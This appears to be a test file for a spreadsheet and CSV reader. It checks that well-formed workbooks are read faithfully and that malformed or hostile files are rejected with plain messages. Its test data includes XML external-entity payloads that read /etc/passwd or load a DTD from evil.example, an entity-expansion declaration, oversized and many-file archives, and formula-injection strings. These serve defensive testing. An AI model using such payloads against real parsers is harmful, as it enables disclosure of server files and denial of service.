import { describe, expect, it } from 'vitest';
import { readTable, readWorkbook } from '../../../src/intake/spreadsheet/workbook.ts';
import { writeWorkbook } from '../../../src/publish/workbook.ts';
import { declaring, excel, excelFiles, openpyxl, workbookOf, zipped } from './workbooks.ts';

const rows = async (bytes: Uint8Array) => {
  const reading = await readWorkbook(bytes);
  if (!reading.ok) throw new Error(reading.problems[0]?.what);
  return reading.value;
};
const trouble = async (bytes: Uint8Array): Promise<string> => {
  const reading = await readWorkbook(bytes);
  return reading.ok ? 'read' : `${reading.problems[0]?.what} ${reading.problems[0]?.mend}`;
};
const table = (text: string) => {
  const reading = readTable(text);
  return reading.ok ? reading.value[0]?.rows : reading.problems[0]?.what;
};

describe('Excel workbooks', () => {
  it('reads what the cells show: text, dates, times, what formulas came to, those that failed', async () => {
    expect(await rows(excel)).toEqual([
      {
        name: 'People',
        rows: [
          ['Name', 'Date', 'Time', 'Both', 'Sum'],
          ['', '', '', '', ''],
          ['Siân Rhys', '2026-03-24', '09:00', '2026-03-24 14:30', '2.5'],
          ['Tom & Jerry', '', 'yes', '', '#N/A'],
        ],
      },
    ]);
  });

  it('reads those of other programs, and text that looks like a formula as text', async () => {
    expect(await rows(openpyxl)).toEqual([
      {
        name: 'Sheet',
        rows: [
          ['Name', 'Seats'],
          ['=2+2', '12'],
        ],
      },
    ]);
  });

  it('reads what we write ourselves, to the letter, and writes no formulas', async () => {
    const cells = ['=1+1', '+44 20', '-x', '@SUM', 'Ynys Môn', 'a\nb', '<&>"'];
    const file = await writeWorkbook([
      { name: 'A', headings: ['H'], rows: cells.map((c) => [c]), widths: [10] },
    ]);
    expect(await rows(file)).toEqual([{ name: 'A', rows: [['H'], ...cells.map((c) => [c])] }]);
  });
});

describe('workbooks that do harm, or are none', () => {
  it('refuses more than 60 MB unpacked, whatever the directory says', async () => {
    const big = `<row r="1"><c r="A1" t="str"><v>${'A'.repeat(61_000_000)}</v></c></row>`;
    expect(workbookOf(big).length).toBeLessThan(100_000);
    for (const over of [{}, { size: 10 }])
      expect(await trouble(workbookOf(big, over))).toBe(
        'Unpacked, the file is far too large (more than 60 MB). Copy the rows you need into a new workbook, save that and bring it in.',
      );
  }, 60_000);

  it('refuses a great many files in one', async () => {
    const many = Object.fromEntries(Array.from({ length: 2001 }, (_, i) => [`xl/${i}.xml`, '<a/>']));
    expect(await trouble(zipped(many))).toContain('2001 files in one');
  });

  it.each([
    ['an entity that grows', '<!DOCTYPE w [<!ENTITY x "lol"><!ENTITY y "&x;&x;">]>'],
    ['a file of the server', '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['something elsewhere', '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">'],
    ['any of it in small letters', '<!doctype w>'],
  ])('refuses XML that declares %s', async (_, declaration) => {
    expect(await trouble(declaring(declaration))).toMatch(
      /^The workbook has instructions in it that no spreadsheet needs/,
    );
  });

  it.each([
    ['a row beyond the edge of any sheet', '<row r="99999999"><c r="A99999999"><v>1</v></c></row>'],
    ['a row at infinity', '<row r="1e308"><c><v>1</v></c></row>'],
    ['cells out of order', '<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>'],
    ['XML that breaks off', '<row r="1"><c r="A1"'],
  ])('refuses %s', async (_, xml) => {
    expect(await trouble(workbookOf(xml))).toMatch(/^(The workbook can’t be read|There is nothing in it)/);
  });

  it('refuses more rows than anybody has people', async () => {
    const many = Array.from(
      { length: 3001 },
      (_, i) => `<row r="${i + 1}"><c r="A${i + 1}"><v>1</v></c></row>`,
    ).join('');
    expect(await trouble(workbookOf(many))).toContain('has 3001 rows, and 3000 are read at most');
  });

  it.each([
    ['a password', workbookOf('<row r="1"/>', { flags: 1 }), 'The file is locked with a password.'],
    [
      'a password as Excel sets it',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
      'The file is locked with a password.',
    ],
    [
      'Excel before 2007',
      Buffer.from('d0cf11e0a1b11ae10000', 'hex'),
      'in the format of Excel before 2007 (.xls)',
    ],
    [
      'LibreOffice',
      zipped({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }),
      'This is a LibreOffice spreadsheet',
    ],
    ['Word', zipped({ 'word/document.xml': '<w/>' }), 'This is not an Excel workbook.'],
    ['any zip file', zipped({ 'a.txt': 'a' }), 'This is not an Excel workbook.'],
    ['nothing', new Uint8Array(), 'The file is empty.'],
    ['a PDF', Buffer.from('%PDF-1.7 …'), 'This is a PDF.'],
    ['a picture', Buffer.from('\x89PNG\r\n', 'latin1'), 'This is a picture.'],
    [
      'anything at all',
      Uint8Array.from({ length: 3000 }, (_, i) => (i * 7919) % 256),
      'This is not a table, nor any text.',
    ],
    ['more than 5 MB', new Uint8Array(5_000_001), 'The file is larger than 5 MB.'],
    ['an empty workbook', workbookOf('<row r="1"/>'), 'There is nothing in it.'],
    ['a web page', Buffer.from('<!DOCTYPE html><table>'), 'This is a web page or XML, not a table.'],
  ])('says what is wrong with %s', async (_, bytes, words) => {
    expect(await trouble(bytes)).toContain(words);
  });

  it('never throws for a workbook that was cut or changed somewhere', async () => {
    const whole = zipped(excelFiles);
    for (let at = 0; at < whole.length; at += 37) {
      const changed = Uint8Array.from(whole);
      changed[at] = changed[at]! ^ 0x55;
      const results = [await readWorkbook(changed), await readWorkbook(whole.slice(0, at))];
      expect(results.every((r) => r.ok || r.problems[0]!.mend !== '')).toBe(true);
    }
  });
});

describe('CSV files and pasted tables', () => {
  const wanted = [
    ['Name', 'Note'],
    ['Siân Rhys', 'a, “b”'],
  ];
  it.each([
    ['commas', 'Name,Note\r\nSiân Rhys,"a, “b”"\r\n'],
    ['semicolons, as Excel writes on the continent', 'Name;Note\nSiân Rhys;a, “b”'],
    ['tabs, as cells are copied', 'Name\tNote\nSiân Rhys\ta, “b”'],
    ['a line that says what parts the cells', 'sep=;\r\nName;Note\r\nSiân Rhys;a, “b”'],
    ['old ends of lines', 'Name\tNote\rSiân Rhys\ta, “b”'],
    ['blank lines behind it', 'Name\tNote\nSiân Rhys\ta, “b”\n\t\n\n'],
  ])('reads cells with %s', (_, text) => {
    expect(table(text)).toEqual(wanted);
  });

  it.each([
    ['UTF-8', Buffer.from('Name,Note\nSiân Rhys,"a, “b”"')],
    ['UTF-8 with a mark', Buffer.from('\ufeffName,Note\nSiân Rhys,"a, “b”"')],
    ['UTF-16, as Excel writes “Unicode text”', Buffer.from('\ufeffName\tNote\nSiân Rhys\ta, “b”', 'utf16le')],
    ['UTF-16 without a mark', Buffer.from('Name\tNote\nSiân Rhys\ta, “b”', 'utf16le')],
    ['UTF-16 the other way round', Buffer.from('\ufeffName\tNote\nSiân Rhys\ta, “b”', 'utf16le').swap16()],
    ['Windows-1252', Buffer.from('Name,Note\nSi\xe2n Rhys,"a, \x93b\x94"', 'latin1')],
  ])('reads %s', async (_, bytes) => {
    expect((await rows(bytes))[0]?.rows).toEqual(wanted);
  });

  it('takes the apostrophe off that keeps a spreadsheet from running a text, and no other', () => {
    expect(table("A,B\n'=1+1,'tis\n'-5,O'Neil")).toEqual([
      ['A', 'B'],
      ['=1+1', "'tis"],
      ['-5', "O'Neil"],
    ]);
  });

  it('leaves out what can’t be seen and turns a line round', () => {
    expect(table('Name,B\n\u202eyelsA\u202c,a\u0007b\u00a0\u00a0c\u200b')).toEqual([
      ['Name', 'B'],
      ['yelsA', 'a b c'],
    ]);
  });

  it('says where a quotation mark is left open, and that a table is too long', () => {
    expect(table('a,b\n"c')).toMatch(/^The table can’t be read near line 2: a quotation mark/);
    expect(table('a,b\n'.repeat(3001))).toBe(
      'The table has more than 3000 rows, which is as many as are read.',
    );
    expect(table('BEGIN:VCALENDAR\nVERSION:2.0')).toBe('This is a calendar.');
    expect(table(' \n ')).toBe('There is no table in it.');
  });
});
